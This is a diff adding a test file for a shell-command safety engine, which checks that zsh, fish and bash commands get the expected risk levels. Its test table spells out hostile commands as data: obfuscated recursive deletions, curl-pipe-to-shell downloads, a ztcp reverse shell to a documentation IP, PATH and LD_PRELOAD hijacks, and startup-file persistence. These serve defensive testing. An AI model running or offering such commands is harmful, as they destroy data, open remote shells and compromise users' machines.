@@ -1,0 +1,98 @@
+import { beforeAll, describe, expect, it } from "vitest";
+import { createSafetyEngine, type SafetyEngine } from "./safety-engine.js";
+import type { RiskLevel } from "./types.js";
+import type { ShellName } from "../shells.js";
+import { zshAsBash } from "./zsh-dialect.js";
+
+let engine: SafetyEngine;
+beforeAll(async () => {
+  engine = await createSafetyEngine();
+});
+
+/** [shell, command, expected level, a rule the verdict must name (optional)]. */
+const ROWS: [ShellName, string, RiskLevel, string?][] = [
+  // zsh expansions the bash grammar cannot read
+  ["zsh", "x='rm -rf /'; $=x", "critical"],
+  ["zsh", "x=(rm -rf /); $x", "critical"],
+  ["zsh", "x=rm; $x[1,2] -rf /", "critical", "dynamic-command"],
+  ["zsh", "x=RM; ${(L)x} -rf /", "critical"],
+  ["zsh", "x='rm,-rf,/'; ${(s:,:)x}", "critical"],
+  ["zsh", "${:-rm} -rf ~", "critical"],
+  ["zsh", "${${:-mr}[2]}${${:-mr}[1]} -rf /", "critical", "dynamic-command"],
+  ["zsh", "x='/*'; rm -rf ${~x}", "critical"],
+  ["zsh", "${(z)1}", "high"],
+  ["zsh", "echo ${(U)x}", "safe"],
+  ["zsh", "x=(a b c); print -l $x", "safe"],
+  // glob qualifiers: plain ones are filters, e:…: runs code per file
+  ["zsh", "ls *(e:'rm -rf ~':)", "critical"],
+  ["zsh", "print -l *(e:'curl -s https://example.com/x | sh':)", "high"],
+  ["zsh", "ls -la *(om[1,5])", "safe"],
+  ["zsh", "for f in *.txt(N); do wc -l $f; done", "safe"],
+  ["zsh", "echo *(e:'[[ -d $REPLY ]]':)", "safe"],
+  ["zsh", "rm -rf ~/Documents/**/*(.)", "high"],
+  // extendedglob negation, blocks, anonymous functions, hooks, sockets, zmv
+  ["zsh", "setopt extendedglob; rm -rf /^tmp", "critical"],
+  ["zsh", "setopt extendedglob; ls ^*.o", "safe"],
+  ["zsh", "repeat 1 { rm -rf / }", "critical"],
+  ["zsh", "() { print $1 } hello", "safe"],
+  ["zsh", "precmd() { curl -s https://example.com/x | sh }", "high"],
+  ["zsh", "zmodload zsh/net/tcp && ztcp 198.51.100.7 9001 && zsh -i <&$REPLY >&$REPLY 2>&$REPLY", "critical"],
+  ["zsh", "autoload -Uz zmv; zmv '/(*)' '/tmp/$1'", "critical"],
+  ["zsh", "zstyle -L", "safe"],
+  // fish
+  ["fish", "true; and rm -rf ~", "critical"],
+  ["fish", "false; or rm -rf ~", "critical"],
+  ["fish", "set c (string join '' r m); $c -rf ~", "critical"],
+  ["fish", "set c (string sub -l 2 rmdir); $c -rf ~", "critical"],
+  ["fish", "eval (string join ' ' rm -rf ~)", "critical"],
+  ["fish", "source (echo 'rm -rf ~' | psub)", "critical"],
+  ["fish", "string join ' ' rm -rf / | source", "critical"],
+  ["fish", "source (curl -s https://example.com/x | psub)", "high"],
+  ["fish", "fish --command='rm -rf /'", "critical"],
+  ["fish", "rm -rf /{usr,etc}", "critical"],
+  ["fish", "rm -rf (dirname $HOME)", "critical"],
+  ["fish", "rm -rf $argv[1]", "high"],
+  ["fish", "set x a b c; rm -f $x[2..3]", "moderate"],
+  ["fish", "set -x LD_PRELOAD /tmp/x.so", "high", "code-injection-variable"],
+  ["fish", "set -gx PATH /tmp/x $PATH", "high", "path-hijack"],
+  ["fish", "set -Ua fish_user_paths /tmp/.bin", "high", "path-hijack"],
+  ["fish", "history clear", "high", "history-wipe"],
+  ["fish", "abbr -a ls 'rm -rf ~'", "high", "alias-trap"],
+  ["fish", "string upper hello", "safe"],
+  ["fish", "command -v git", "safe"],
+  ["fish", "fish -n script.fish", "safe"],
+  ["fish", "switch (uname); case Linux; echo linux; end", "safe"],
+  ["fish", "set -l files (ls); count $files", "safe"],
+  ["fish", "set -x FOO bar", "safe"],
+  // both shells and bash: functions called with arguments, startup files given code
+  ["bash", 'f() { rm -rf "$@"; }; f /', "critical"],
+  ["bash", "f() { echo hi; }; f a b", "safe"],
+  ["bash", "rm() { echo; }; sudo rm -rf /", "critical"],
+  ["zsh", "echo 'rm -rf ~' >> ~/.zshrc; source ~/.zshrc", "critical", "persistence-payload"],
+  ["bash", "echo 'alias ll=\"ls -la\"' >> ~/.bashrc", "high", "persistence"],
+  ["bash", "alias ls='rm -rf ~'", "high", "alias-trap"],
+  ["bash", "alias cleanup='rm -rf build'", "safe"],
+  ["bash", "rm -rf ./**/*", "high"],
+];
+
+describe("zsh and fish dialects are judged as what they run", () => {
+  it.each(ROWS)("%s: %s → %s", (shell, command, level, rule) => {
+    const assessment = engine.assess(command, { shell, interactive: false });
+    expect(assessment.level).toBe(level);
+    if (rule !== undefined) expect(assessment.reasons.map((reason) => reason.rule)).toContain(rule);
+  });
+});
+
+describe("zshAsBash", () => {
+  it("leaves plain bash alone", () => {
+    expect(zshAsBash("ls -la | grep x")).toBeUndefined();
+  });
+
+  it("keeps quoted text as written", () => {
+    expect(zshAsBash("echo '${(z)x} *(e:rm:)'")).toBeUndefined();
+  });
+
+  it("turns what it cannot follow into a value it does not know", () => {
+    expect(zshAsBash("${(j::)${(s::)${:-rm}}} -rf /")).toContain("${__zsh_expansion}");
+  });
+});
